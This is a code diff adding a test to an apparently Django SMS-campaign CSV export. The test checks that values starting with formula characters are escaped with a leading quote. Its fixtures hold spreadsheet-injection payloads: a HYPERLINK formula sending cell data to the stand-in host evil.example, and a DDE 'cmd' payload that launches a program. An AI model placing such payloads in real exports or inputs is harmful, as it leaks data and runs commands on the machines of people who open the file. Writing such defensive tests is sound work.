@@ -249,6 +249,26 @@ class TestExport:
         assert rejected and "30 characters" in rejected[0]["meaning"]
         assert rows[0]["status"] == "delivered" and rows[0]["meaning"] == ""
 
+    def test_the_csv_never_holds_a_formula_a_spreadsheet_would_run(self, client):
+        """A text that starts with a contact's name, a vendor's error words: shown as text in Excel, never run. A
+        number in E.164 (+91…) is data and stays as it is."""
+        campaign = CampaignFactory(state="sending")
+        MessageFactory(
+            campaign=campaign,
+            contact=ContactFactory(phone="+919812345678"),
+            text='=HYPERLINK("http://evil.example/?"&A2,"Open"), your order has shipped',
+            status="rejected",
+            error_code="@SUM(1)",
+            reason="-2+3 vendor said no",
+            provider_message_id="+cmd|' /C calc'!A0",
+        )
+        response = client.get(reverse("admin:campaigns_campaign_export", args=[campaign.pk]))
+        [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+        assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Open"), your order has shipped'
+        assert (row["error_code"], row["reason"]) == ("'@SUM(1)", "'-2+3 vendor said no")
+        assert row["provider_message_id"] == "'+cmd|' /C calc'!A0"
+        assert row["address"] == "+919812345678"
+
     def test_the_rows_come_from_a_server_side_cursor(self, sent, django_assert_num_queries):
         rows = campaign_message_rows(campaign=sent, chunk_size=3)
         with django_assert_num_queries(2):  # the account's kind, then one cursor fetched 3 rows at a time
